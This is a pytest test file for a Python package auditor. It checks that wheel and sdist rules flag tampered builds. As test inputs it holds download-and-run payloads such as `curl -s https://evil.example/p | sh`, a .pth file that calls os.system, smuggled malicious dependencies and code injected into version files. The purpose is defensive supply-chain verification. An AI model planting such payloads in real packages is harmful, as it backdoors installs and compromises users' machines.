"""Attacker twins (issue 45) of the rules of the sources check (a wheel whose rebuild failed, judged against the
sdist's files) and of the repository check (an sdist against its repository's tag, --source-repo): each rule's own
honest situation is accepted under that rule, and the same situation carrying a payload the rule is not about (an
added .pth, module or script, a Requires-Dist, code hidden inside the excused variation) stays a difference of
class code naming the member or file (a catalog, a stub or a C file: the class judge/classes.toml gives its path).
tests/test_mutations.py widens each rule with a check to accept everything: one of these tests then fails on a
payload (the sources check's twins assert the tool step a widened check does not record after their payloads)."""

from __future__ import annotations

import importlib.util
import marshal
import os
import py_compile
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from auditor import sourcerepo
from auditor.judge.configured import SdistFiles
from auditor.judge.members import compare_other_platform, compare_wheels
from auditor.judge.sources import SdistSources, _sdist_files
from auditor.judge.verdicts import sources_judgement, verdict_of
from auditor.records import Verdict
from tests import attacker
from tests.test_compare import BASE, _other_platform, wheel

EVIL = b"import os\nos.system('curl -s https://evil.example/p | sh')\n"
PTH = ("zz-evil.pth", b"import os; os.system('id')\n", 0o644)


# ---------------------------------------------------------------- the sources check (nothing rebuilt)

def _sdist(tmp_path: Path, backend: str, files: dict[str, bytes] | None = None) -> Path:
    """attacker's sdist of `demo` (its build fails on purpose), with `files` added or replaced."""
    src = attacker.write_sdist_dir(tmp_path / "src", backend, "demo")
    for rel, data in (files or {}).items():
        (src / rel).parent.mkdir(parents=True, exist_ok=True)
        (src / rel).write_bytes(data)
    return src


def _judged(tmp_path: Path, src: Path, extra=(), tag: str = "py3-none-any", replace: dict | None = None) -> dict:
    """The sources check of demo's wheel holding `extra` members (and members replaced by `replace`)."""
    members = [(n, (replace or {}).get(n, d), m) for n, d, m in attacker.members("demo", tag=tag, extra=extra)]
    out = tmp_path / f"dist{len(list(tmp_path.glob('dist*')))}"
    path = attacker.write_wheel(out, "demo", tag, members)
    return sources_judgement(path, src, path.name, "build-failed: on purpose").fields()


def _honest(f: dict) -> None:
    assert f["verdict"] == "failed" and not f["differences"] and f["check"] == "sources", (f["reason"], f["differences"])


def _differs_as_code(f: dict, member: str, cls: str = "code") -> None:
    assert f["verdict"] == "differs", (member, f["reason"])
    assert (member, cls) in [(d["path"], d["cls"]) for d in f["differences"]], (member, f["differences"])


@pytest.mark.twin("script-shebang")
def test_script_shebang_excuses_only_the_interpreter_line_of_a_declared_python_script(tmp_path):
    """setuptools' build_scripts writes `#!python` for the sdist's `#!...python` line of a script setup.py names:
    never a changed body, interpreter options, a shell script become a Python one, nor a file setup.py does not
    name as a script (the sdist's tests/helper has a python shebang too)."""
    src = _sdist(tmp_path, "setuptools", {
        "setup.py": b"from setuptools import setup\nsetup(scripts=['bin/tool', 'bin/shtool'])\n",
        "bin/tool": b"#!/usr/bin/env python3\nprint(1)\n", "bin/shtool": b"#!/bin/sh\necho hi\n"})
    script = "demo-1.0.data/scripts/tool"
    f = _judged(tmp_path, src, [(script, b"#!python\nprint(1)\n", 0o755)])
    _honest(f)
    assert "script-shebang" in f["normalizations"], f["normalizations"]
    payloads = [
        (script, [(script, b"#!python\nprint(1)\n" + EVIL, 0o755)]),  # the line rewritten and the body changed
        (script, [(script, b"#!python -c \"__import__('os').system('id')\"\nprint(1)\n", 0o755)]),
        ("demo-1.0.data/scripts/shtool", [("demo-1.0.data/scripts/shtool", b"#!python\necho hi\n", 0o755)]),
        ("demo-1.0.data/scripts/helper", [("demo-1.0.data/scripts/helper", b"#!python\nimport os\nos.system('id')\n", 0o755)]),
        (PTH[0], [(script, b"#!python\nprint(1)\n", 0o755), PTH]),
    ]
    for member, extra in payloads:
        _differs_as_code(_judged(tmp_path, src, extra), member)


GRPC_TEMPLATE = b"# Copyright 2017 the authors.\n# AUTO-GENERATED FROM a template\n\n__version__ = \"\"\"1.0\"\"\"\n"


@pytest.mark.twin("version-file")
def test_version_file_excuses_only_the_version_a_template_of_the_sdist_states(tmp_path):
    """grpcio 1.76.0: the sdist holds grpc/_grpcio_metadata.py with a licence header, its build writes
    `__version__ = \"\"\"1.76.0\"\"\"`. Never a version file that also runs something, another version, nor a module
    of the sdist that is no version template rewritten into assignments of the version (demo/util.py's `add`)."""
    src = _sdist(tmp_path, "setuptools", {"demo/_metadata.py": GRPC_TEMPLATE})
    honest = _judged(tmp_path, src, [("demo/_metadata.py", b'__version__ = """1.0"""', 0o644)])
    _honest(honest)
    for data in (b'__version__ = """1.0"""\n' + EVIL, b'__version__ = __import__("os").system("id") or "1.0"\n',
                 b'__version__ = "1.0"\nimport os\n', b'__version__ = """1.0.post1"""\n'):
        _differs_as_code(_judged(tmp_path, src, [("demo/_metadata.py", data, 0o644)]), "demo/_metadata.py")
    # the sdist's demo/util.py is code, not a version template: `add = "1.0"` is no version file the build writes
    f = _judged(tmp_path, src, [("demo/_metadata.py", b'__version__ = """1.0"""', 0o644)],
                replace={"demo/util.py": b'add = "1.0"\n'})
    _differs_as_code(f, "demo/util.py")
    _differs_as_code(_judged(tmp_path, src, [("demo/_metadata.py", b'__version__ = """1.0"""', 0o644), PTH]), PTH[0])
    assert any(s.startswith("version file demo/_metadata.py written by the build") for s in honest["tool_steps"]), honest


VERSION_PY = b'"""generated by the build"""\nversion = "1.0"\nfull_version = version\nrelease = True\n'


@pytest.mark.twin("generated-version-module")
def test_generated_version_module_is_constants_only_and_a_version_module(tmp_path):
    """scipy 1.17.0's scipy/version.py, which its meson build generates: a module the sdist does not hold that binds
    names to constants, one of them the release's version. Never one that imports or calls, one whose
    TYPE_CHECKING block runs because TYPE_CHECKING was bound again, one that states another version, nor a
    module of constants that is no version module (settings a package imports when present)."""
    src = _sdist(tmp_path, "meson")
    f = _judged(tmp_path, src, [("demo/version.py", VERSION_PY, 0o644)])
    _honest(f)
    payloads = {
        "demo/version.py": [VERSION_PY + b"import os\n", VERSION_PY + b"release = __import__('os').system('id')\n",
                            b'version = "2.0"\n',
                            b'TYPE_CHECKING = False\nversion = "1.0"\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n'
                            b'    import os\n    os.system("id")\n',
                            b'TYPE_CHECKING = False\nversion = "1.0"\nTYPE_CHECKING = version\nif TYPE_CHECKING:\n'
                            b'    import os\n'],
        # `try: from .local_settings import *` in a package: constants that turn its checks off
        "demo/local_settings.py": [b'VERIFY_TLS = False\nALLOWED_HOSTS = ["*"]\nversion = "1.0"\n'],
    }
    for member, bodies in payloads.items():
        for body in bodies:
            _differs_as_code(_judged(tmp_path, src, [(member, body, 0o644)]), member)
    _differs_as_code(_judged(tmp_path, src, [("demo/version.py", VERSION_PY, 0o644), PTH]), PTH[0])
    _differs_as_code(_judged(tmp_path, src, [("demo/version.py", VERSION_PY, 0o644), ("demo/evil.py", EVIL, 0o644)]),
                     "demo/evil.py")
    assert "version module demo/version.py generated by the build (constants only)" in f["tool_steps"], f["tool_steps"]


MESON_SUBDIR = b"install_subdir('vendored/vendored', install_dir: py.get_install_dir() / 'demo')\n"
API = b"def g():\n    return 2\n"


@pytest.mark.twin("meson-install-subdir")
def test_meson_install_subdir_excuses_only_the_bytes_of_the_named_directory(tmp_path):
    """scipy's array_api_compat: meson installs vendored/vendored/ (install_subdir) as demo/vendored/. Never a
    changed file of that directory, a file it does not hold, nor a .pth beside it."""
    src = _sdist(tmp_path, "meson", {"demo/meson.build": MESON_SUBDIR, "demo/vendored/vendored/api.py": API})
    f = _judged(tmp_path, src, [("demo/vendored/api.py", API, 0o644)])
    _honest(f)
    for member, extra in {"demo/vendored/api.py": [("demo/vendored/api.py", API + EVIL, 0o644)],
                          "demo/vendored/evil.py": [("demo/vendored/api.py", API, 0o644), ("demo/vendored/evil.py", EVIL, 0o644)],
                          PTH[0]: [("demo/vendored/api.py", API, 0o644), PTH]}.items():
        _differs_as_code(_judged(tmp_path, src, extra), member)
    assert "meson install_subdir file demo/vendored/api.py (the sdist's demo/vendored/vendored/api.py)" in f["tool_steps"]


@pytest.mark.twin("meson-subproject-file")
def test_meson_subproject_file_excuses_only_the_bytes_of_a_subprojects_file(tmp_path):
    """scipy installs subprojects/array_api_compat/array_api_compat/ into scipy/_lib/: a subproject's file with the
    same bytes at the same package path. Never a changed file, one the subproject does not hold, nor a .pth."""
    helpers = b"def f():\n    return 1\n"
    src = _sdist(tmp_path, "meson", {"subprojects/compat/compat/helpers.py": helpers})
    member = "demo/_lib/compat/helpers.py"
    f = _judged(tmp_path, src, [(member, helpers, 0o644)])
    _honest(f)
    for name, extra in {member: [(member, helpers + EVIL, 0o644)],
                        "demo/_lib/compat/evil.py": [(member, helpers, 0o644), ("demo/_lib/compat/evil.py", EVIL, 0o644)],
                        PTH[0]: [(member, helpers, 0o644), PTH]}.items():
        _differs_as_code(_judged(tmp_path, src, extra), name)
    assert f"meson subproject file {member} (the sdist's subprojects/compat/compat/helpers.py)" in f["tool_steps"]


@pytest.mark.twin("generated-by-build")
def test_generated_by_build_waives_only_what_cannot_run(tmp_path):
    """scipy 1.17.0 (meson-python): its wheel holds files its build generates (stubs, data): listed as not
    verified. Never a module (a .pyw is one on Windows), bytecode, a .pth, a shell script, nor any file installed
    executable, even one whose name says stub (a difference then, of the class its path has: a stub is packaging)."""
    src = _sdist(tmp_path, "meson")
    honest = [("demo/_x.pyi", b"def f() -> int: ...\n", 0o644), ("demo/data/table.dat", b"1 2 3\n", 0o644)]
    said = _judged(tmp_path, src, honest)
    _honest(said)
    for member, data, mode in (("demo/evil.py", EVIL, 0o644), ("demo/evil.pyw", EVIL, 0o644),
                               ("demo/__pycache__/evil.cpython-311.pyc", importlib.util.MAGIC_NUMBER + b"\0" * 12, 0o644),
                               ("demo/zz.pth", PTH[1], 0o644), ("demo/run.sh", b"#!/bin/sh\ncurl evil | sh\n", 0o644),
                               ("demo/data/run", b"#!/bin/sh\ncurl evil | sh\n", 0o755)):
        _differs_as_code(_judged(tmp_path, src, [*honest, (member, data, mode)]), member)
    f = _judged(tmp_path, src, [*honest, ("demo/_y.pyi", b"#!/bin/sh\ncurl evil | sh\n", 0o755)])
    _differs_as_code(f, "demo/_y.pyi", "packaging")  # judge/classes.toml: a stub's class, installed executable or not
    assert {d["path"] for d in said["not_reproduced"] if d.get("cause") == "generated-by-build"} == {n for n, _, _ in honest}


@pytest.mark.twin("generated-by-cython")
def test_generated_by_cython_waives_only_c_files_and_headers_of_a_pyx(tmp_path):
    """pyarrow 19.0.0's lib.h and lib_api.h, fonttools' cu2qu.c: what Cython writes from a .pyx the sdist holds,
    listed as not verified. Never a module named after the .pyx, a .pth, nor such a file installed executable (Cython
    writes none: a difference then, of the class its path has)."""
    src = _sdist(tmp_path, "setuptools", {"demo/fast.pyx": b"cdef public int x\n"})
    so = ("demo/fast.cpython-311-x86_64-linux-gnu.so", b"\x7fELF", 0o755)
    honest = [("demo/fast.c", b"/* Generated by Cython 3.0.11 */\n", 0o644), ("demo/fast.h", b"/* api */\n", 0o644),
              ("demo/fast_api.h", b"/* api */\n", 0o644), so]
    tag = "cp311-cp311-linux_x86_64"
    f = _judged(tmp_path, src, honest, tag)
    _honest(f)
    for member, data, mode, cls in (("demo/fast.py", EVIL, 0o644, "code"), ("demo/fast.pth", PTH[1], 0o644, "code"),
                                    ("demo/fast.c", b"#!/bin/sh\ncurl evil | sh\n", 0o755, "packaging")):
        extra = [m for m in honest if m[0] != member] + [(member, data, mode)]
        _differs_as_code(_judged(tmp_path, src, extra, tag), member, cls)
    assert {d["path"]: d["cause"] for d in f["not_reproduced"] if d.get("cause")} == {
        "demo/fast.c": "generated-by-cython", "demo/fast.h": "generated-by-cython", "demo/fast_api.h": "generated-by-cython"}


@pytest.mark.twin("bundled-library-license")
def test_bundled_library_license_excuses_only_license_text_beside_grafted_libraries(tmp_path):
    """shapely 2.1.2: dist-info/licenses/LICENSE_GEOS beside its grafted pkg.libs/ (listed as not verified); pillow:
    the rebuild's license with the bundled libraries' licenses appended. Never an added module or .pth, a script or
    a module named like a license, a changed module, nor an added requirement in the same wheel."""
    lic = ("pkg-1.0.dist-info/licenses/LICENSE_GEOS", b"GNU LESSER GENERAL PUBLIC LICENSE\n", 0o644)
    lib = ("pkg.libs/libgeos-abc.so.3.13", b"\x7fELF", 0o755)
    mine = b"Copyright (c) pkg\n"
    own = ("pkg-1.0.dist-info/licenses/LICENSE", mine, 0o644)
    appended = ("pkg-1.0.dist-info/licenses/LICENSE", mine + b"\n----\nlibjpeg: IJG\n", 0o644)
    reb = wheel(tmp_path / "r.whl", members=BASE + [own])
    (tmp_path / "sdist").mkdir()
    sources = SdistSources(set(), files=SdistFiles(tmp_path / "sdist", _sdist_files(tmp_path / "sdist")))

    def compared(extra, replace=None):
        members = [(n, (replace or {}).get(n, d), m) for n, d, m in BASE] + [lic, lib, *extra]
        n = len(list(tmp_path.glob("p*.whl")))
        return compare_other_platform(wheel(tmp_path / f"p{n}.whl", members=_other_platform(members)), reb, sources=sources)

    honest = compared([appended])
    assert not honest.differences, honest.differences
    requires = b"Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\nRequires-Dist: evil-helper>=1\n"
    for member, extra, replace in (
            ("pkg/evil.py", [appended, ("pkg/evil.py", EVIL, 0o644)], None),
            (PTH[0], [appended, PTH], None),
            ("pkg/LICENSE.py", [appended, ("pkg/LICENSE.py", EVIL, 0o644)], None),
            ("pkg-1.0.data/scripts/LICENSE", [appended, ("pkg-1.0.data/scripts/LICENSE", b"#!/bin/sh\nid\n", 0o755)], None),
            ("pkg/tool.py", [appended], {"pkg/tool.py": b"def f():\n    return 2\n" + EVIL}),
            ("pkg-1.0.dist-info/METADATA", [appended], {"pkg-1.0.dist-info/METADATA": requires})):
        cmp = compared(extra, replace)
        assert (member, "code") in [(d.path, d.cls) for d in cmp.differences], (member, cmp.differences)
        assert verdict_of(cmp)[0] is Verdict.DIFFERS
    # text put before the rebuild's license, the same license beside no grafted library: no rule excuses it
    before = ("pkg-1.0.dist-info/licenses/LICENSE", b"Extra first.\n" + mine, 0o644)
    assert (before[0], "metadata") in [(d.path, d.cls) for d in compared([before]).differences]
    cmp = compare_wheels(wheel(tmp_path / "pure.whl", members=BASE + [lic]), reb)
    assert lic[0] in [d.path for d in cmp.differences]
    assert "bundled-library-license" in [d.cause for d in honest.compiled_differences]
    assert "license LICENSE_GEOS of the bundled native libraries" in honest.tool_steps, honest.tool_steps
    assert "licenses of the bundled native libraries appended to licenses/LICENSE" in honest.tool_steps, honest.tool_steps


# ---------------------------------------------------------------- the sdist against its repository's tag

URL = "https://github.com/example/twin"
needs_git = pytest.mark.skipif(shutil.which("git") is None and os.environ.get("CI") != "true", reason="git is not installed")
PKG_INFO = f"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nProject-URL: Source, {URL}\n"
Files = dict[str, "bytes | str"]


def _git(cwd: Path, *args: str) -> str:
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@e", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@e", GIT_CONFIG_GLOBAL=os.environ.get("GIT_CONFIG_GLOBAL", "/dev/null"))
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


def _write(root: Path, files: Files, links: dict[str, str] | None = None) -> Path:
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data.encode() if isinstance(data, str) else data)
    for rel, target in (links or {}).items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, root / rel)
    return root


def _serve(repo: Path, tmp_path: Path, monkeypatch, url: str = URL) -> None:
    config = tmp_path / "gitconfig"
    config.write_text((config.read_text() if config.exists() else "") + f'[url "file://{repo}"]\n\tinsteadOf = {url}\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))


def _tagged(tmp_path: Path, monkeypatch, files: Files, links: dict[str, str] | None = None, gitlinks=()) -> Path:
    """A repository holding `files` (and links, and submodule entries (path, commit)), tagged v1.0, reachable as URL."""
    repo = _write(tmp_path / "upstream", files, links)
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    for path, commit in gitlinks:
        _git(repo, "update-index", "--add", "--cacheinfo", f"160000,{commit},{path}")
    _git(repo, "commit", "-q", "-m", "1.0")
    _git(repo, "tag", "-a", "v1.0", "-m", "1.0")
    _serve(repo, tmp_path, monkeypatch)
    return repo


class Sdists:
    """Sdists of demo 1.0 made in tmp_path: the honest one's files, and each payload's on a fresh copy."""

    def __init__(self, tmp_path: Path, files: Files):
        self.tmp_path, self.files, self.n = tmp_path, {"PKG-INFO": PKG_INFO, **files}, 0

    def check(self, change: Files | None = None, drop=()) -> sourcerepo.SourceRepoResult:
        self.n += 1
        files = {k: v for k, v in {**self.files, **(change or {})}.items() if k not in drop}
        src = _write(self.tmp_path / f"sdist{self.n}" / "demo-1.0", files)
        return sourcerepo.check(src, "demo", "1.0", self.tmp_path / "repos")

    def explained(self, rule: str, **kw) -> sourcerepo.SourceRepoResult:
        r = self.check(**kw)
        assert r.verdict == "explained" and rule in r.rules, (rule, r.reason, r.differences, r.rules)
        return r

    def differs(self, path: str, change: Files | None = None, cls: str = "code", **kw) -> sourcerepo.SourceRepoResult:
        r = self.check(change, **kw)
        assert r.verdict == "differs", (path, r.reason, r.rules)
        assert (path, cls) in [(d.path, d.cls) for d in r.differences], (path, r.differences)
        return r


PYPROJECT = ('[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\n'
             'name = "demo"\nversion = "1.0"\ndependencies = ["requests>=2"]\n\n[project.optional-dependencies]\n'
             'test = ["pytest>=8"]\n')
INIT = "def hello():\n    return 'hello'\n"


@needs_git
@pytest.mark.twin("sdist-metadata")
def test_sdist_metadata_excuses_only_the_metadata_the_sdist_step_writes(tmp_path, monkeypatch):
    """flask 3.1.1, markupsafe 3.0.2: PKG-INFO and NAME.egg-info/ are the sdist step's. Never a PKG-INFO whose
    Requires-Dist the build configuration does not declare (the sources check trusts a PKG-INFO of Metadata-Version
    2.2 for them), nor a module or .pth beside them."""
    _tagged(tmp_path, monkeypatch, {"pyproject.toml": PYPROJECT, "demo/__init__.py": INIT})
    pkg_info = (PKG_INFO.replace("2.1", "2.2") + "Requires-Dist: requests>=2\nRequires-Dist: pytest>=8; extra == \"test\"\n"
                "Provides-Extra: test\n")
    egg = {"demo.egg-info/PKG-INFO": pkg_info, "demo.egg-info/SOURCES.txt": "demo/__init__.py\n",
           "demo.egg-info/requires.txt": "requests>=2\n\n[test]\npytest>=8\n", "demo.egg-info/top_level.txt": "demo\n"}
    s = Sdists(tmp_path, {"pyproject.toml": PYPROJECT, "demo/__init__.py": INIT, "PKG-INFO": pkg_info, **egg})
    s.explained("sdist-metadata")
    s.differs("PKG-INFO", {"PKG-INFO": pkg_info + "Requires-Dist: evil-helper>=1\n"})
    s.differs("PKG-INFO", {"PKG-INFO": pkg_info.replace("pytest>=8; extra", "evil-helper; extra")})
    s.differs("demo/evil.py", {"demo/evil.py": EVIL})
    s.differs("zz-evil.pth", {"zz-evil.pth": PTH[1]})


SETUP_CFG = "[metadata]\nname = demo\n\n[options]\npackages = demo\n"
EGG_INFO = "\n[egg_info]\ntag_build = \ntag_date = 0\n\n"


@needs_git
@pytest.mark.twin("egg-info-setup-cfg")
def test_egg_info_setup_cfg_excuses_only_the_egg_info_section(tmp_path, monkeypatch):
    """six 1.17.0, requests 2.32.4: setuptools' sdist step writes setup.cfg anew with an [egg_info] section (and,
    markupsafe 3.0.2, a setup.cfg of that section alone where the repository has none). Never a requirement, a
    command, a module or another option beside that section, nor another key in it."""
    _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "setup.cfg": SETUP_CFG,
                                    "demo/__init__.py": INIT, "sub/setup.py": "from setuptools import setup\nsetup()\n"})
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                          "setup.cfg": SETUP_CFG + EGG_INFO, "sub/setup.py": "from setuptools import setup\nsetup()\n",
                          "sub/setup.cfg": EGG_INFO})  # sub/: a project whose repository has no setup.cfg
    s.explained("egg-info-setup-cfg")
    s.differs("setup.cfg", {"setup.cfg": SETUP_CFG + "install_requires = evil-helper\n" + EGG_INFO})
    s.differs("setup.cfg", {"setup.cfg": SETUP_CFG + EGG_INFO + "[options.entry_points]\nconsole_scripts =\n"
                                         "\tdemo-evil = demo.evil:main\n"})
    s.differs("setup.cfg", {"setup.cfg": SETUP_CFG + "scripts = bin/evil\n" + EGG_INFO})
    s.differs("setup.cfg", {"setup.cfg": SETUP_CFG + EGG_INFO.replace("tag_date = 0", "tag_date = 0\negg_base = ../x")})
    s.differs("sub/setup.cfg", {"sub/setup.cfg": EGG_INFO + "[options]\nsetup_requires = evil-helper\n"})
    s.differs("demo/evil.py", {"demo/evil.py": EVIL})


@needs_git
@pytest.mark.twin("project-subdirectory")
def test_project_subdirectory_finds_the_project_and_excuses_nothing_in_it(tmp_path, monkeypatch):
    """hatchling 1.27.0: its sdist is hatch's backend/ (plus the repository's root .gitignore). Never a changed
    module of that directory, nor a module only another project of the repository holds at that path, nor a .pth."""
    backend = {"pyproject.toml": '[project]\nname = "demo"\n', "src/demo/__init__.py": INIT}
    _tagged(tmp_path, monkeypatch, {**{f"backend/{k}": v for k, v in backend.items()}, ".gitignore": "*.pyc\n",
                                    "pyproject.toml": '[project]\nname = "app"\n', "frontend/src/demo/extra.py": EVIL})
    s = Sdists(tmp_path, {**backend, ".gitignore": "*.pyc\n"})
    r = s.explained("project-subdirectory")
    assert r.subdirectory == "backend"
    s.differs("src/demo/__init__.py", {"src/demo/__init__.py": INIT + EVIL.decode()})
    s.differs("src/demo/extra.py", {"src/demo/extra.py": EVIL})  # frontend's file, at the same path in its project
    s.differs("zz-evil.pth", {"zz-evil.pth": PTH[1]})


VERSION_TEMPLATE = (b'# file generated by setuptools-scm\n__all__ = ["__version__", "__version_tuple__"]\n\n'
                    b'TYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple\n    VERSION_TUPLE = Tuple[int, ...]\n'
                    b'else:\n    VERSION_TUPLE = object\n\n__version__ = version = "1.0"\n'
                    b'__version_tuple__ = version_tuple = (1, 0)\n')


@needs_git
@pytest.mark.twin("vcs-version-file")
def test_vcs_version_file_excuses_only_assignments_of_the_version(tmp_path, monkeypatch):
    """urllib3 2.5.0's src/urllib3/_version.py (setuptools-scm's template): a .py the repository does not hold that
    only assigns the release's version. Never one that also imports or calls, whose TYPE_CHECKING block imports
    anything but typing, or that states another version; nor a module that is no version file."""
    _tagged(tmp_path, monkeypatch, {"pyproject.toml": PYPROJECT, "demo/__init__.py": INIT})
    s = Sdists(tmp_path, {"pyproject.toml": PYPROJECT, "demo/__init__.py": INIT, "demo/_version.py": VERSION_TEMPLATE})
    s.explained("vcs-version-file")
    s.explained("vcs-version-file", change={"demo/_version.py": "__version__ = version = '1.0'\n"})
    for body in (VERSION_TEMPLATE + b"__import__('os').system('id')\n", b"__version__ = '1.0'\nimport os\n",
                 VERSION_TEMPLATE.replace(b"from typing import Tuple", b"import os"),
                 VERSION_TEMPLATE.replace(b"VERSION_TUPLE = object", b"VERSION_TUPLE = __import__('os').getcwd()"),
                 VERSION_TEMPLATE.replace(b'"1.0"', b'"1.0.post1"'), b"__version__ = '1.0.post1'\n"):
        s.differs("demo/_version.py", {"demo/_version.py": body})
    s.differs("demo/evil.py", {"demo/evil.py": EVIL})


VERSIONEER = 'git_refnames = "$Format:%d$"\ngit_full = "$Format:%H$"\ngit_date = "$Format:%ci$"\n'


@needs_git
@pytest.mark.twin("export-subst")
def test_export_subst_excuses_only_what_git_archive_fills_in(tmp_path, monkeypatch):
    """attrs 25.3.0's .git_archival.txt; versioneer's _version.py: git archive fills its $Format:...$ placeholders with
    the tag's commit, refs and dates. Never a value that leaves its string (a quote, a backslash, an f-string's
    braces) or holds a shell metacharacter, another commit, text around the placeholder, nor another line."""
    repo = _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                                           "demo/_version.py": VERSIONEER})
    commit = _git(repo, "rev-parse", "v1.0^{commit}").strip()
    filled = (f'git_refnames = " (HEAD -> main, tag: v1.0)"\ngit_full = "{commit}"\n'
              'git_date = "2025-01-01 12:00:00 +0100"\n')
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                          "demo/_version.py": filled})
    s.explained("export-subst")
    for evil in (f'git_full = "{commit}" if __import__("os").system("id") else ""',
                 f'git_full = "{commit}"; import os',
                 f'git_full = "{commit}" + __import__(chr(111)).name + "',
                 'git_full = "' + "0" * 40 + '"',
                 f'git_full = "{commit}" + __import__("os").popen("id").read() + ""',
                 f'git_full = "{commit}"  # and more'):
        s.differs("demo/_version.py", {"demo/_version.py": filled.replace(f'git_full = "{commit}"', evil)})
    s.differs("demo/_version.py", {"demo/_version.py": filled + "import os\n"})
    s.differs("demo/evil.py", {"demo/evil.py": EVIL})


IMPL = "def compat():\n    return 1\n"


@needs_git
@pytest.mark.twin("link-stored-as-file")
def test_link_stored_as_file_excuses_only_the_bytes_the_link_points_to(tmp_path, monkeypatch):
    """requests 2.32.4's tests/certs (links to a directory), meson-python 0.18.0: a link of the repository stored in
    the sdist as the file it points to. Never other bytes (the target's with code appended, another file's), nor a
    file the linked directory does not hold."""
    _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                                    "demo/_impl.py": IMPL, "vendor/x.py": "X = 1\n"},
            links={"demo/compat.py": "_impl.py", "demo/vendored": "../vendor"})
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                          "demo/_impl.py": IMPL, "vendor/x.py": "X = 1\n", "demo/compat.py": IMPL,
                          "demo/vendored/x.py": "X = 1\n"})
    s.explained("link-stored-as-file")
    s.differs("demo/compat.py", {"demo/compat.py": IMPL + EVIL.decode()})
    s.differs("demo/compat.py", {"demo/compat.py": "from setuptools import setup\nsetup()\n"})  # another file's bytes
    s.differs("demo/vendored/x.py", {"demo/vendored/x.py": "X = 1\n" + EVIL.decode()})
    s.differs("demo/vendored/evil.py", {"demo/vendored/evil.py": EVIL})


def _pyc(source: bytes, path: str = "demo/util.py", change: Callable | None = None) -> bytes:
    """The bytecode this interpreter writes for `source` (its code object changed by `change`)."""
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        py = Path(d) / "m.py"
        py.write_bytes(source)
        pyc = Path(d) / "m.pyc"
        py_compile.compile(str(py), cfile=str(pyc), dfile=path, doraise=True)
        data = pyc.read_bytes()
    if change is None:
        return data
    return data[:16] + marshal.dumps(change(marshal.loads(data[16:])))


def _function(change: Callable) -> Callable:
    """A change of the first function's code object inside a module's code object."""
    def apply(code):
        return code.replace(co_consts=tuple(change(c) if hasattr(c, "co_code") else c for c in code.co_consts))
    return apply


UTIL = b"def add(a, b):\n    return a + b\n"


@needs_git
@pytest.mark.twin("bytecode-of-source")
def test_bytecode_of_source_excuses_only_the_code_its_source_compiles_to(tmp_path, monkeypatch):
    """pyyaml 6.0.2's packaging/__pycache__/_pyyaml_pep517.cpython-312.pyc: bytecode the repository does not hold
    whose code object is what this interpreter compiles from the .py beside it. Never other instructions, nor the
    same instructions with other flags, argument counts or a smaller stack (memory the frame does not have), nor
    bytecode of a module without its source (a sourceless .pyc is imported as it is)."""
    _tagged(tmp_path, monkeypatch, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                                    "demo/util.py": UTIL})
    cached = importlib.util.cache_from_source("demo/util.py")
    s = Sdists(tmp_path, {"setup.py": "from setuptools import setup\nsetup()\n", "demo/__init__.py": INIT,
                          "demo/util.py": UTIL, cached: _pyc(UTIL)})
    s.explained("bytecode-of-source")
    for bad in (_pyc(UTIL + EVIL), _pyc(UTIL, change=_function(lambda f: f.replace(co_flags=f.co_flags | 0x20))),
                _pyc(UTIL, change=_function(lambda f: f.replace(co_stacksize=0))),
                _pyc(UTIL, change=_function(lambda f: f.replace(co_argcount=1, co_nlocals=2, co_kwonlyargcount=1)))):
        s.differs(cached, {cached: bad})
    s.differs("demo/util.pyc", {"demo/util.pyc": _pyc(UTIL)})  # beside its source: not where the interpreter caches
    evil = cached.replace("util", "evil")
    s.differs(evil, {evil: _pyc(EVIL, "demo/evil.py")})


@needs_git
@pytest.mark.twin("backend-force-include")
def test_backend_force_include_excuses_only_the_file_it_names_with_its_bytes(tmp_path, monkeypatch):
    """hatchling's force-include copies a file of the repository from outside the project's directory into the
    sdist (a monorepo's shared module or LICENSE). Never other bytes, a file it does not name (even one whose bytes
    the repository holds elsewhere), nor one whose source lies outside the repository."""
    pyproject = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[project]\nname = "demo"\n'
                 'version = "1.0"\n[tool.hatch.build.targets.sdist.force-include]\n"../shared/hook.py" = "demo/hook.py"\n'
                 '"../../outside.py" = "demo/outside.py"\n')
    hook = "def hook():\n    return 1\n"
    _tagged(tmp_path, monkeypatch, {"shared/hook.py": hook, "shared/extra.py": EVIL, "pkg/pyproject.toml": pyproject,
                                    "pkg/demo/__init__.py": INIT})
    s = Sdists(tmp_path, {"pyproject.toml": pyproject, "demo/__init__.py": INIT, "demo/hook.py": hook})
    s.explained("backend-force-include")
    s.differs("demo/hook.py", {"demo/hook.py": hook + EVIL.decode()})
    s.differs("demo/extra.py", {"demo/extra.py": EVIL})
    s.differs("demo/outside.py", {"demo/outside.py": EVIL})


@pytest.fixture
def with_submodule(tmp_path, monkeypatch):
    """uvloop 0.21.0's shape: vendor/lib is a submodule (its own repository, reached through insteadOf, at the commit
